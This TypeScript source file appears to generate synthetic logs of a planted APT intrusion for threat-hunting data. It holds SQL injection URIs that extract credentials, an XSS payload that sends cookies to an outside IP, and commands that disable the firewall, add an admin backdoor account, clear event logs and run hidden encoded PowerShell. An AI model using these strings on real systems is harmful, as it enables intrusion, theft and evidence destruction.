import type { Background } from "./background.ts";
import { EMPIRE_CERT } from "./certs.ts";
import type { GroundTruth, PlantedProcess } from "./manifest.ts";
import type { Wire } from "./network.ts";
import type { Emitter } from "./output.ts";
import {
  C2_IP, EMPIRE_COOKIE, EMPIRE_UA, EMPIRE_URIS, LAUNCHER_MARKER, UPDATER_COMMAND, empireLauncher, encodeUtf16Base64, inertStagerText, schtasksUpdater,
} from "./powershell.ts";
import type { Rng } from "./prng.ts";
import type { Scheduler } from "./scheduler.ts";
import { MINUTE, SECOND, isoMicro, pdt } from "./time.ts";
import type { HostState, Proc, Session } from "./windows.ts";
import { BREWERTALK, DNS_SERVER, FIREWALL_PUBLIC, USERS } from "./world.ts";

const SYS32 = "C:\\Windows\\system32\\";
const PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
export const FTP_IP = "160.153.91.7";
export const EXFIL_DOMAIN = "hildegardsfarm.com";
export const EXFIL_NS = ["208.109.255.42", "216.69.185.42"];
export const W3AF_UA = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; w3af.org)";
const SERVICE3_LOGON_ID = "0x171491a";

/** How many of each scalable attack artefact to plant (scaled with the requested size). */
export interface AttackVolumes {
  beacons: number;
  w3af: number;
  dnsExfil: number;
  ftpFiles: number;
}

/** Volumes for a requested total: about 6% of events belong to the intrusion, with floors so small sets still tell the story. */
export function attackVolumes(events: number): AttackVolumes {
  const f = events / 1_000_000;
  return {
    beacons: Math.max(80, Math.round(14000 * f)),
    w3af: Math.max(40, Math.round(9000 * f)),
    dnsExfil: Math.max(30, Math.round(3000 * f)),
    ftpFiles: Math.max(12, Math.round(600 * f)),
  };
}

/** Per-host share of C2 beacons, and the share of them the Stream sensor saw (server VLAN traffic is mostly missed). */
const BEACON_PLAN = [
  { host: "wrk-btun", share: 0.45, stream: 1 },
  { host: "wrk-klagerf", share: 0.3, stream: 1 },
  { host: "venus", share: 0.22, stream: 0.05 },
  { host: "mercury", share: 0.03, stream: 0.3 },
];

function iso(t: number): string {
  return new Date(t).toISOString();
}

/**
 * The planted Taedonggang intrusion (BOTSv2 "Hunting an APT"): w3af scan and SQL injection against
 * brewertalk.com, the invoice.zip phish, Empire agents on wrk-btun, wrk-klagerf, venus and mercury,
 * persistence, recon, lateral movement as service3, account creation, log clearing, FTP and DNS exfiltration.
 * Every step is scheduled at its story time; the truth object records what was planted.
 */
export class Attack {
  readonly truth: GroundTruth;
  private readonly agents = new Map<string, Proc[]>();

  constructor(
    private readonly rng: Rng,
    private readonly hosts: Map<string, HostState>,
    private readonly wire: Wire,
    private readonly sched: Scheduler,
    private readonly em: Emitter,
    private readonly bg: Background,
    private readonly vol: AttackVolumes,
  ) {
    this.truth = {
      c2: {
        ip: C2_IP, port: 443, sslIssuer: EMPIRE_CERT.issuer, suricataIssuerDn: EMPIRE_CERT.issuerdn, sslSerial: EMPIRE_CERT.serial, userAgent: EMPIRE_UA,
        uris: [...EMPIRE_URIS], streamTcpBySrc: {}, sysmonPowershellByHost: {}, panService3Src: [], firstSeen: "", lastSeen: "",
      },
      compromisedHosts: ["wrk-btun", "wrk-klagerf", "venus", "mercury"].map((h) => ({ host: h, ip: this.h(h).host.ip })),
      account: "service3",
      launcherMarker: LAUNCHER_MARKER,
      encodedPowershell: [],
      sequences: {},
      processes: [],
      accountCreated: [],
      logClearing: { host: "wrk-klagerf", time: "", by: "service3", wevtutilCl: 0 },
      networkLogons: [],
      explicitLogons: [],
      ftpExfil: { destIp: FTP_IP, domain: EXFIL_DOMAIN, sessions: [], streamFtpEvents: 0, panFlows: 0, retrHwp: "" },
      dnsExfil: { domain: EXFIL_DOMAIN, host: "venus", queries: 0, nameservers: EXFIL_NS, averageEntropy: 0, firstSeen: "", lastSeen: "" },
      phishing: { time: "", sender: "Jim Smith <jsmith@urinalysis.com>", recipients: [USERS.btun.email, USERS.abungst.email, USERS.fmaltes.email, USERS.klagerf.email], attachment: "invoice.zip", md5: "20e368e2c9c6e91f24eeddd09369c4aa" },
      web: { target: BREWERTALK.host, scanner: C2_IP, scannerUserAgent: W3AF_UA, accessRequests: 0, sqlInjection: 0, sqliParameter: "updatexml", xssPayloadTime: "" },
    };
  }

  /** Schedules an attack step; events it emits count as the intrusion's. */
  private at(t: number, fn: (t: number) => void): void {
    this.sched.at(t, (x) => {
      const was = this.em.attack;
      this.em.attack = true;
      try {
        fn(x);
      } finally {
        this.em.attack = was;
      }
    });
  }

  private h(name: string): HostState {
    const h = this.hosts.get(name);
    if (!h) throw new Error(`attack: no host ${name}`);
    return h;
  }

  /** Schedules every step. */
  plan(): void {
    this.planWebAttack();
    this.at(pdt(8, 23, 20, 27, 14), (t) => this.phish(t));
    this.at(pdt(8, 23, 20, 30, 51), (t) => this.btunInfection(t));
    this.at(pdt(8, 23, 20, 58, 5), (t) => this.wmiLateral(t, "wrk-klagerf", "wrk-btun", "V"));
    this.at(pdt(8, 23, 21, 5, 9), (t) => this.wmiLateral(t, "venus", "wrk-btun", "V"));
    this.at(pdt(8, 23, 21, 14, 12), (t) => this.wmiLateral(t, "mercury", "venus", "V"));
    for (const day of [24, 25]) {
      this.at(pdt(8, day, 10, 26, 0), (t) => this.persistRun(t, "wrk-btun"));
      this.at(pdt(8, day, 10, 39, 0), (t) => this.persistRun(t, "wrk-klagerf"));
      this.at(pdt(8, day, 10, 51, 0), (t) => this.persistRun(t, "venus"));
    }
    this.at(pdt(8, 25, 22, 20, 5), (t) => this.klagerfAug25(t));
    this.at(pdt(8, 25, 22, 42, 6), (t) => this.ftpRun(t, "wrk-btun", "A", "ftp.exe -i -s:winsys64.dll", true));
    this.at(pdt(8, 25, 23, 13, 34), (t) => this.ftpRun(t, "wrk-btun", "A", "ftp.exe -i -s:winsys64.dll", true));
    this.at(pdt(8, 25, 23, 43, 37), (t) => this.ftpRun(t, "wrk-btun", "A", "ftp.exe open hildegardsfarm.com", false));
    this.at(pdt(8, 25, 23, 46, 8), (t) => this.ftpRun(t, "wrk-btun", "A", "ftp.exe -i -s:singlefile.dll", true));
    this.at(pdt(8, 25, 22, 59, 39), (t) => this.venusPython(t));
    this.planBeacons();
  }

  // ---------------------------------------------------------------- processes

  /** Starts an attacker process and records it in the ground truth. */
  private run(t: number, h: HostState, parent: Proc, exe: string, cmd: string, life: number, opts: { session?: Session; image?: string } = {}): Proc {
    const image = opts.image ?? SYS32 + exe;
    const p = h.spawn(t, parent, image, cmd, opts.session ? { session: opts.session } : {});
    const rec: PlantedProcess = {
      time: iso(t), host: h.host.name, user: p.session.user, image, commandLine: cmd, processId: p.pid, parentProcessId: parent.pid, parentImage: parent.image,
    };
    this.truth.processes.push(rec);
    if (/\\(ftp|whoami|schtasks)\.exe$/.test(image)) (this.truth.sequences[h.host.name] ??= []).push(rec);
    if (/-enc /.test(cmd)) this.truth.encodedPowershell.push({ host: h.host.name, time: iso(t), parentImage: parent.image, user: p.session.user, commandLine: cmd });
    if (life > 0) this.at(t + life, (x) => h.exit(x, p));
    return p;
  }

  private agent(host: string, label: string): Proc {
    const list = this.agents.get(host + ":" + label);
    if (!list || list.length === 0) throw new Error(`attack: no agent ${label} on ${host}`);
    return list[0]!;
  }

  private addAgent(host: string, label: string, p: Proc): void {
    const key = host + ":" + label;
    this.agents.set(key, [...(this.agents.get(key) ?? []), p]);
  }

  private phish(t: number): void {
    this.truth.phishing.time = iso(t);
    const rec = {
      endtime: isoMicro(t + 820, 311),
      timestamp: isoMicro(t, 104),
      ack_packets_in: 0,
      attach_content_md5_hash: [this.truth.phishing.md5],
      attach_filename: ["invoice.zip"],
      attach_size: [68524],
      attach_type: ["application/zip"],
      bytes: 97412,
      bytes_in: 96310,
      bytes_out: 1102,
      content_body: ["Hello,\r\n\r\nPlease find attached the invoice for the equipment order. The archive password is 912345678.\r\n\r\nRegards,\r\nJim Smith"],
      content_type: "multipart/mixed",
      dest_ip: "10.0.1.103",
      dest_port: 25,
      mail_from: "jsmith@urinalysis.com",
      protocol_stack: "ip:tcp:smtp",
      rcpt_to: this.truth.phishing.recipients,
      receiver: this.truth.phishing.recipients,
      sender: this.truth.phishing.sender,
      sender_email: "jsmith@urinalysis.com",
      src_ip: "104.47.37.62",
      src_port: 28941,
      subject: "Invoice",
      transport: "tcp",
    };
    const text = JSON.stringify(rec);
    this.em.emit(t + 820, "stream_smtp", () => text);
  }

  /** Billy opens invoice.doc from invoice.zip; the macro starts agent A, which runs the first command group. */
  private btunInfection(t: number): void {
    const h = this.h("wrk-btun");
    const u = h.ownerSession!;
    const docPath = "C:\\Users\\billy.tun\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.doc";
    h.fileCreate(t - 40 * SECOND, h.procs.outlook!, "C:\\Users\\billy.tun\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\6Q2ZBW5N\\invoice.zip");
    h.fileCreate(t - 5 * SECOND, h.procs.explorer!, docPath);
    const word = this.run(t, h, h.procs.explorer!, "", `"C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${docPath}" /o ""`, 14 * MINUTE, {
      image: "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    });
    const a = this.run(t + 29 * SECOND, h, word, "", empireLauncher("4TWB7KCF", "/login/process.php"), 0, { image: PS, session: u });
    this.addAgent("wrk-btun", "A", a);
    const at = (mi: number, s: number) => pdt(8, 23, 20, mi, s);
    this.at(at(33, 29), (x) => this.run(x, h, a, "netsh.exe", "C:\\Windows\\system32\\netsh.exe advfirewall set allprofiles state off", 900));
    this.at(at(36, 49), (x) => this.ftpRun(x, "wrk-btun", "A", "C:\\Windows\\system32\\ftp.exe -i -s:winsys32.dll", true));
    this.at(at(37, 40), (x) => {
      const c = this.run(x, h, a, "", empireLauncher("Z7HQ2M0D", "/news.php"), 50 * MINUTE, { image: PS });
      this.addAgent("wrk-btun", "C", c);
      this.at(at(40, 12), (y) => this.run(y, h, c, "whoami.exe", "C:\\Windows\\system32\\whoami.exe /groups", 700));
      this.at(at(41, 5), (y) => {
        const ev = this.run(y, h, c, "eventvwr.exe", '"C:\\Windows\\system32\\eventvwr.exe" ', 9 * SECOND);
        const elevated: Session = { ...u, integrity: "High", logonId: "0x" + (parseInt(u.logonId, 16) + 0x2f).toString(16) };
        const b = this.run(y + 1800, h, ev, "", empireLauncher("R1KX9VNE", "/admin/get.php"), 0, { image: PS, session: elevated });
        this.addAgent("wrk-btun", "B", b);
        this.at(at(55, 10), (z) => {
          this.run(z, h, b, "net.exe", "C:\\Windows\\system32\\net.exe user svcvnc Vnc$erv1ce2017 /add", 900);
          h.accountCreated(z + 310, b.session, "svcvnc", 1001);
          this.truth.accountCreated.push({ name: "svcvnc", host: "wrk-btun", time: iso(z + 310), by: b.session.user });
        });
        this.at(at(55, 41), (z) => this.run(z, h, b, "net.exe", "C:\\Windows\\system32\\net.exe localgroup administrators svcvnc /add", 800));
        this.at(at(42, 30), (z) => this.run(z, h, b, "whoami.exe", "C:\\Windows\\system32\\whoami.exe /all", 700));
      });
    });
    this.at(at(39, 9), (x) => this.run(x, h, a, "whoami.exe", "C:\\Windows\\system32\\whoami.exe /user", 650));
    this.at(at(45, 3), (x) => this.persistence(x, h, a, "10:26"));
    this.at(at(46, 35), (x) => {
      const csc = this.run(x, h, a, "", 'C:\\Windows\\Microsoft.NET\\Framework64\\v2.0.50727\\csc.exe /noconfig /fullpaths @"C:\\Users\\billy.tun\\AppData\\Local\\Temp\\_lvk8kdj.cmdline"', 2500, {
        image: "C:\\Windows\\Microsoft.NET\\Framework64\\v2.0.50727\\csc.exe",
      });
      this.run(x + 900, h, csc, "", 'C:\\Windows\\Microsoft.NET\\Framework64\\v2.0.50727\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\\Users\\billy.tun\\AppData\\Local\\Temp\\RES8F3A.tmp" "c:\\Users\\billy.tun\\AppData\\Local\\Temp\\CSC8F39.tmp"', 600, {
        image: "C:\\Windows\\Microsoft.NET\\Framework64\\v2.0.50727\\cvtres.exe",
      });
    });
    this.at(at(52, 13), (x) => {
      const net = this.run(x, h, a, "net.exe", "C:\\Windows\\system32\\net.exe share", 1200);
      this.run(x + 30, h, net, "net1.exe", "C:\\Windows\\system32\\net1 share", 900);
    });
    // Agent A uses service3's credentials against the next hosts (4648 on wrk-btun).
    this.at(pdt(8, 23, 20, 57, 40), (x) => this.explicit(x, h, a, "wrk-klagerf"));
    this.at(pdt(8, 23, 21, 4, 50), (x) => this.explicit(x, h, a, "venus"));
  }

  private explicit(t: number, h: HostState, p: Proc, target: string): void {
    const th = this.h(target);
    h.explicitLogon(t, p.session, { account: "service3", domain: "FROTHLY" }, { server: th.fqdn, ip: th.host.ip }, p);
    this.truth.explicitLogons.push({ host: h.host.name, time: iso(t), account: "service3", target: target });
  }

  /** WMI lateral movement as service3: network logon, WmiPrvSE, the encoded launcher, then ftp → whoami → schtasks. */
  private wmiLateral(t: number, host: string, from: string, label: string): void {
    const h = this.h(host);
    const src = this.h(from);
    const base = h.newSession(USERS.service3, 0, "High");
    const s: Session = host === "wrk-klagerf" ? { ...base, logonId: SERVICE3_LOGON_ID } : base;
    h.logon(t, s, 3, { ip: src.host.ip, port: this.wire.ephemeral(src.host.ip), workstation: from.toUpperCase() }, { privileged: true });
    this.truth.networkLogons.push({ host, time: iso(t), logonType: 3, account: "service3", srcIp: src.host.ip, logonId: s.logonId });
    const wmi = this.run(t + 1100, h, h.procs.dcomlaunch!, "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", 4 * MINUTE, { session: h.system });
    const ps = this.run(t + 1900, h, wmi, "", empireLauncher("K6D0B7P2", "/login/process.php"), 0, { image: PS, session: s });
    this.addAgent(host, label, ps);
    if (host === "mercury") return;
    const base0 = host === "venus" ? pdt(8, 23, 21, 7, 27) : pdt(8, 23, 21, 0, 30);
    const whoami = host === "venus" ? pdt(8, 23, 21, 8, 41) : pdt(8, 23, 21, 1, 33);
    const sch = host === "venus" ? pdt(8, 23, 21, 12, 36) : pdt(8, 23, 21, 4, 26);
    this.at(base0, (x) => this.ftpRun(x, host, label, "C:\\Windows\\system32\\ftp.exe -i -s:winsys32.dll", true));
    this.at(whoami, (x) => this.run(x, h, ps, "whoami.exe", "C:\\Windows\\system32\\whoami.exe /user", 600));
    this.at(sch, (x) => this.persistence(x, h, ps, host === "venus" ? "10:51" : "10:39"));
    if (host === "venus") this.at(pdt(8, 23, 21, 14, 10), (x) => this.explicit(x, h, ps, "mercury"));
  }

  /** schtasks /Create … /TN Updater, the task file, the registry payload and Security 4698. */
  private persistence(t: number, h: HostState, agent: Proc, st: string): void {
    this.run(t, h, agent, "schtasks.exe", schtasksUpdater(st), 800);
    h.registrySet(t - 2200, agent, "HKLM\\SOFTWARE\\Microsoft\\Network\\debug", encodeUtf16Base64(inertStagerText("PERSIST" + h.host.name.length, "/admin/get.php")));
    h.fileCreate(t + 300, h.procs.netsvcs!, "C:\\Windows\\System32\\Tasks\\Updater");
    h.taskCreated(t + 320, agent.session, "Updater", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", '-NonI -W hidden -c "IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network debug).debug)))"');
  }

  /** The daily Updater task starts a SYSTEM agent, which joins the host's beaconing. */
  private persistRun(t: number, host: string): void {
    const h = this.h(host);
    const p = this.run(t + this.rng.int(0, 900), h, h.procs.netsvcs!, "", UPDATER_COMMAND, 0, { image: PS, session: h.system });
    this.addAgent(host, "P", p);
  }

  /** wrk-klagerf on Aug 25: svcvnc, an FTP burst, then wevtutil clears every log (Security 1102). */
  private klagerfAug25(t: number): void {
    const h = this.h("wrk-klagerf");
    const v = this.agent("wrk-klagerf", "V");
    this.run(t, h, v, "net.exe", "C:\\Windows\\system32\\net.exe user svcvnc Vnc$erv1ce2017 /add", 1100);
    h.accountCreated(t + 420, v.session, "svcvnc", 1002);
    this.truth.accountCreated.push({ name: "svcvnc", host: "wrk-klagerf", time: iso(t + 420), by: v.session.user });
    this.at(pdt(8, 25, 22, 28, 57), (x) => this.ftpRun(x, "wrk-klagerf", "V", '"C:\\Windows\\system32\\ftp.exe" -i -s:winsys64.dll', true));
    this.at(pdt(8, 25, 22, 30, 11), (x) => {
      this.run(x, h, v, "wevtutil.exe", '"C:\\Windows\\system32\\wevtutil.exe" el', 900);
      let at = pdt(8, 25, 22, 30, 18);
      const channels = WEVTUTIL_CHANNELS;
      for (const ch of channels) {
        const cmd = this.rng.chance(0.5) ? `"C:\\Windows\\system32\\wevtutil.exe" cl ${ch}` : `C:\\Windows\\system32\\wevtutil.exe cl ${ch}`;
        this.run(at, h, v, "wevtutil.exe", cmd, this.rng.int(80, 400));
        this.truth.logClearing.wevtutilCl++;
        if (ch === "Security") {
          h.logCleared(at + 150, v.session);
          this.truth.logClearing.time = iso(at + 150);
        }
        at += this.rng.int(40, 600);
      }
    });
  }

  /** venus on Aug 25: download Python, install it, run dns.py (the DNS exfiltration). */
  private venusPython(t: number): void {
    const h = this.h("venus");
    const v = this.agent("venus", "V");
    const cs = this.run(t, h, v, "cscript.exe", '"C:\\Windows\\system32\\cscript.exe" download_py.vbs', 40 * SECOND);
    const srcPort = this.wire.ephemeral(h.host.ip);
    this.wire.dns(t + 400, h.host.ip, "www.python.org", ["151.101.52.223"]);
    h.connect(t + 600, cs, { srcPort, destIp: "151.101.52.223", destHost: "www.python.org", destPort: 443 });
    this.wire.flow({ start: t + 600, end: t + 30 * SECOND, src: h.host.ip, srcPort, dest: "151.101.52.223", destPort: 443, transport: "tcp", bytesIn: 19_111_936, bytesOut: 21_000, app: "ssl", viaFirewall: true, panUser: "frothly\\service3", panApp: "ssl", panCategory: "computer-and-internet-info", streamTcp: true, suricataFlow: true });
    this.at(pdt(8, 25, 23, 50, 36), (x) => this.run(x, h, v, "msiexec.exe", '"C:\\Windows\\system32\\msiexec.exe" /i c:\\temp\\download\\python.msi /qn /norestart', 17 * SECOND));
    this.at(pdt(8, 25, 23, 50, 54), (x) => {
      const n = this.vol.dnsExfil;
      const dur = 70 * MINUTE;
      this.run(x, h, v, "", '"C:\\python27\\python.exe" dns.py', dur + MINUTE, { image: "C:\\python27\\python.exe" });
      let entropySum = 0;
      for (let i = 0; i < n; i++) {
        const at = x + 2 * SECOND + Math.floor((i * dur) / n) + this.rng.int(0, 900);
        this.at(at, (y) => {
          const label = this.rng.hex(this.rng.int(24, 60));
          const name = `${label}.${EXFIL_DOMAIN}`;
          entropySum += shannon(label);
          this.wire.dns(y, h.host.ip, name, [], { type: "TXT", rcode: "NXDomain", suricata: this.rng.chance(0.3) });
          this.wire.dns(y + this.rng.int(1, 8), DNS_SERVER, name, [], { server: EXFIL_NS[i % 2]!, type: "TXT", rcode: "NXDomain" });
          this.truth.dnsExfil.queries++;
          if (!this.truth.dnsExfil.firstSeen) this.truth.dnsExfil.firstSeen = iso(y);
          this.truth.dnsExfil.lastSeen = iso(y);
          this.truth.dnsExfil.averageEntropy = Math.round((entropySum / this.truth.dnsExfil.queries) * 1000) / 1000;
        });
      }
    });
  }

  /** One ftp.exe run to hildegardsfarm.com: DNS, control and data connections, Stream FTP commands. */
  private ftpRun(t: number, host: string, label: string, cmd: string, transfer: boolean): void {
    const h = this.h(host);
    const agent = this.agent(host, label);
    const files = transfer ? Math.max(1, Math.round(this.vol.ftpFiles / 8)) : 0;
    const life = (files + 1) * 9 * SECOND;
    const exeCmd = cmd.startsWith("ftp.exe") ? "C:\\Windows\\system32\\" + cmd : cmd;
    const ftp = this.run(t, h, agent, "ftp.exe", exeCmd, life);
    this.truth.ftpExfil.sessions.push({ host, time: iso(t), files });
    this.wire.dns(t + 120, h.host.ip, EXFIL_DOMAIN, [FTP_IP]);
    const ctrlPort = this.wire.ephemeral(h.host.ip);
    h.connect(t + 300, ftp, { srcPort: ctrlPort, destIp: FTP_IP, destHost: EXFIL_DOMAIN, destPort: 21 });
    const user = h.host.name === "wrk-btun" ? "frothly\\billy.tun" : h.host.name === "wrk-klagerf" ? "frothly\\kevin.lagerfield" : "frothly\\service3";
    this.wire.flow({ start: t + 300, end: t + life - 500, src: h.host.ip, srcPort: ctrlPort, dest: FTP_IP, destPort: 21, transport: "tcp", bytesIn: 900 + files * 120, bytesOut: 400 + files * 60, app: "ftp", viaFirewall: true, panUser: user, panApp: "ftp", panCategory: "web-hosting", streamTcp: true, suricataFlow: true });
    this.truth.ftpExfil.panFlows++;
    const retrHwp = host === "wrk-klagerf" && !this.truth.ftpExfil.retrHwp;
    let at = t + 2 * SECOND;
    const transfers = retrHwp ? files + 1 : files;
    for (let i = 0; i < transfers; i++) {
      const hwp = retrHwp && i === 0;
      const file = hwp ? "나는_데이비드를_사랑한다.hwp" : this.rng.pick(STOLEN_FILES).replace("#", String(i + 1));
      const size = this.rng.int(40_000, 6_000_000);
      const dataPort = this.rng.int(50000, 65000);
      const srcPort = this.wire.ephemeral(h.host.ip);
      const x = hwp ? pdt(8, 23, 21, 0, 46) : at;
      const rec = {
        endtime: isoMicro(x + 1500, this.rng.int(0, 999)), timestamp: isoMicro(x, this.rng.int(0, 999)),
        bytes: size + 180, bytes_in: hwp ? 120 : size, bytes_out: hwp ? size : 120,
        dest_ip: FTP_IP, dest_port: 21, filename: file, flow_id: this.rng.hex(32), loadway: hwp ? "Download" : "Upload",
        method: hwp ? "RETR" : "STOR", method_parameter: file, protocol_stack: "ip:tcp:ftp", reply_code: 226,
        reply_content: "Transfer complete", src_ip: h.host.ip, src_port: ctrlPort, transport: "tcp", user: "hildegards",
      };
      const text = JSON.stringify(rec);
      this.em.emit(x + 1500, "stream_ftp", () => text);
      this.truth.ftpExfil.streamFtpEvents++;
      if (hwp) this.truth.ftpExfil.retrHwp = iso(x + 1500);
      this.wire.flow({ start: x, end: x + 1400, src: h.host.ip, srcPort, dest: FTP_IP, destPort: dataPort, transport: "tcp", bytesIn: hwp ? size : 300, bytesOut: hwp ? 200 : size, app: "ftp-data", viaFirewall: true, panUser: user, panApp: "ftp-data", panCategory: "web-hosting", streamTcp: true, suricataFlow: this.rng.chance(0.5) });
      this.truth.ftpExfil.panFlows++;
      if (!hwp) at += this.rng.int(3, 9) * SECOND;
    }
  }

  // ---------------------------------------------------------------- C2

  private planBeacons(): void {
    const windows: Record<string, [number, number]> = {
      "wrk-btun": [pdt(8, 23, 20, 31, 25), pdt(8, 26, 2, 40, 0)],
      "wrk-klagerf": [pdt(8, 23, 20, 58, 10), pdt(8, 26, 1, 55, 0)],
      venus: [pdt(8, 23, 21, 5, 12), pdt(8, 26, 0, 40, 0)],
      mercury: [pdt(8, 23, 21, 14, 15), pdt(8, 23, 22, 31, 0)],
    };
    for (const plan of BEACON_PLAN) {
      const n = Math.max(12, Math.round(this.vol.beacons * plan.share));
      const [w0, w1] = windows[plan.host]!;
      // A fifth of the check-ins fall in the first half hour (interactive tasking right after the
      // agent starts), the rest spread over the days the agent lives.
      const burst = Math.max(3, Math.round(n / 5));
      const burstEnd = Math.min(w1, w0 + 30 * MINUTE);
      for (let i = 0; i < n; i++) {
        const [a, b, k, m] = i < burst ? [w0, burstEnd, i, burst] : [burstEnd, w1, i - burst, n - burst];
        const step = (b - a) / m;
        const t = Math.floor(a + k * step + this.rng.next() * step * 0.8);
        this.at(t, (x) => this.beacon(x, plan.host, plan.stream));
      }
    }
  }

  /** One agent check-in: HTTPS to the C2, seen by the host (servers), Stream, PAN and Suricata. */
  private beacon(t: number, host: string, streamShare: number): void {
    const h = this.h(host);
    const agents: Proc[] = [];
    for (const label of ["A", "V", "P"]) for (const p of this.agents.get(host + ":" + label) ?? []) if (h.isLive(p)) agents.push(p);
    if (agents.length === 0) throw new Error(`attack: beacon on ${host} without a live agent at ${iso(t)}`);
    const p = this.rng.pick(agents);
    const srcPort = this.wire.ephemeral(h.host.ip);
    const streamTcp = this.rng.chance(streamShare);
    const service3Window = host === "wrk-btun" && t < pdt(8, 23, 21, 0, 0);
    const panUser = host === "mercury" ? undefined : host === "venus" || service3Window ? "frothly\\service3" : `frothly\\${h.host.owner!.name}`;
    if (panUser === "frothly\\service3" && !this.truth.c2.panService3Src.includes(h.host.ip)) this.truth.c2.panService3Src.push(h.host.ip);
    if (h.logsNetwork) {
      h.connect(t, p, { srcPort, destIp: C2_IP, destHost: "45.77.65.211.vultr.com", destPort: 443 });
      this.truth.c2.sysmonPowershellByHost[host] = (this.truth.c2.sysmonPowershellByHost[host] ?? 0) + 1;
    }
    const bytesIn = this.rng.int(600, 2400);
    const bytesOut = this.rng.int(400, 1400);
    this.wire.flow({
      start: t, end: t + this.rng.int(150, 1500), src: h.host.ip, srcPort, dest: C2_IP, destPort: 443, transport: "tcp", bytesIn, bytesOut, app: "ssl",
      viaFirewall: true, ...(panUser ? { panUser } : {}), panApp: "ssl", panCategory: "web-hosting", cert: EMPIRE_CERT, streamTcp,
      suricataTls: this.rng.chance(0.12), suricataFlow: this.rng.chance(0.5), streamIp: this.rng.chance(0.05),
    });
    if (streamTcp) this.truth.c2.streamTcpBySrc[h.host.ip] = (this.truth.c2.streamTcpBySrc[h.host.ip] ?? 0) + 1;
    if (streamTcp && this.rng.chance(0.1)) {
      const uri = this.rng.pick(EMPIRE_URIS);
      this.wire.http({ t: t + 50, src: h.host.ip, srcPort, dest: C2_IP, destPort: 443, site: `${C2_IP}:443`, method: uri === "/login/process.php" ? "POST" : "GET", uri, status: 200, ua: EMPIRE_UA, cookie: EMPIRE_COOKIE, bytesIn, bytesOut, contentType: "text/html" });
    }
    if (!this.truth.c2.firstSeen || iso(t) < this.truth.c2.firstSeen) this.truth.c2.firstSeen = iso(t);
    if (iso(t) > this.truth.c2.lastSeen) this.truth.c2.lastSeen = iso(t);
  }

  // ---------------------------------------------------------------- web

  /** w3af against brewertalk.com on Aug 10, the updatexml SQL injection, and the Aug 15 cookie-stealing XSS. */
  private planWebAttack(): void {
    const n = this.vol.w3af;
    const w0 = pdt(8, 10, 16, 5, 0);
    const w1 = pdt(8, 10, 17, 35, 0);
    for (let i = 0; i < n; i++) {
      const t = Math.floor(w0 + ((w1 - w0) * i) / n + this.rng.next() * 500);
      this.at(t, (x) => this.w3afRequest(x, i));
    }
    const sqli = 14;
    for (let i = 0; i < sqli; i++) {
      this.at(pdt(8, 10, 17, 41, 0) + i * 47 * SECOND, (x) => {
        const col = ["version()", "database()", "user()", "(select username from mybb_users where uid=1)", "(select salt from mybb_users where uid=1)", "(select password from mybb_users where uid=1)"][i % 6]!;
        const uri = `/member.php?action=activate&uid=-1&code=1'+and+updatexml(1,concat(0x2e,${col.replace(/ /g, "+")}),1)--+`;
        this.bg.webRequest(x, C2_IP, this.wire.ephemeral(C2_IP), "GET", uri, 503, 1720, "-", W3AF_UA);
        this.truth.web.accessRequests++;
        this.truth.web.sqlInjection++;
      });
    }
    this.at(pdt(8, 15, 10, 12, 33), (x) => {
      const uri = '/member.php?action=activate&uid=-1&code=%22><script>document.location=%22http://45.77.65.211:9999/microsoftuserfeedbackservice?metric=%22%20+%20document.cookie;</script>';
      this.bg.webRequest(x, FIREWALL_PUBLIC, 51712, "GET", uri, 200, 4721, "-", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.90 Safari/537.36");
      this.truth.web.xssPayloadTime = iso(x);
      const k = this.h("wrk-klagerf");
      const port = this.wire.ephemeral(k.host.ip);
      this.wire.http({
        t: x + 900, src: k.host.ip, srcPort: port, dest: C2_IP, destPort: 9999, site: "45.77.65.211:9999", method: "GET",
        uri: "/microsoftuserfeedbackservice?metric=mybbuser=1_Ysk4Qbd6tjRiWOSa1tzdRuUK7kFzLkeVYpvu9anJGuwtM3uaP8;%20sid=1502408189", status: 404,
        ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.90 Safari/537.36", bytesIn: 310, bytesOut: 540,
      });
      this.wire.flow({ start: x + 880, end: x + 1200, src: k.host.ip, srcPort: port, dest: C2_IP, destPort: 9999, transport: "tcp", bytesIn: 310, bytesOut: 540, app: "http", viaFirewall: true, panUser: "frothly\\kevin.lagerfield", panApp: "web-browsing", panCategory: "unknown" });
    });
  }

  private w3afRequest(t: number, i: number): void {
    const rng = this.rng;
    const probes = W3AF_PROBES;
    const p = probes[i % probes.length]!;
    const ua = rng.chance(0.98) ? W3AF_UA : "Mozilla/5.0 (X11; Linux x86_64; rv:52.0) Gecko/20100101 Firefox/52.0";
    const status = p.status ?? (rng.chance(0.7) ? 404 : 200);
    if (p.form) {
      this.bg.webRequest(t, C2_IP, this.wire.ephemeral(C2_IP), "POST", p.uri, status, rng.int(300, 9000), "http://www.brewertalk.com/", ua, p.form);
    } else {
      this.bg.webRequest(t, C2_IP, this.wire.ephemeral(C2_IP), "GET", p.uri, status, rng.int(200, 9000), "-", ua);
    }
    if (p.alert) {
      this.wire.alert(t + 3, { src: C2_IP, srcPort: rng.int(40000, 60000), dest: BREWERTALK.ip, destPort: 80, proto: "TCP", ...p.alert, http: { hostname: BREWERTALK.host, url: p.uri, ua } });
    }
    this.truth.web.accessRequests++;
  }
}

type AlertSpec = { sid: number; signature: string; category: string; severity: number };
const XSS_ALERT: AlertSpec = { sid: 2009714, signature: "ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt", category: "Web Application Attack", severity: 1 };
const SQLI_ALERT: AlertSpec = { sid: 2006446, signature: "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", category: "Web Application Attack", severity: 1 };
